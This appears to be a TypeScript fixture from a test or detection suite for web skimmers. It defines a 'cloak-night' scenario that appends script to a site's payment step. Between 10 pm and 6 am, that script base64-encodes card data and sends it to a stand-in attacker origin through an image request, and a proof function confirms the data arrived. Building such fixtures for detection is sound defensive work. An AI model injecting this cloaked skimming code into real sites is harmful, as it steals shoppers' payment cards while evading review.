import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-night',
  why: "Works from ten in the evening to six in the morning by the customer's clock, when nobody in the office looks.",
  covers: ['hard: cloaking', 'trigger: server gate', 'hard: hides from analysts'],
  base: 'direct',
  habit: 'at-night',
  cloaked: true,
  install: (site) =>
    site.append(
      onPay(js`
    var hour = new Date().getHours();
    if (hour < 22 && hour > 5) return;
    new Image().src = '${site.origins.evil}/nt.gif?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
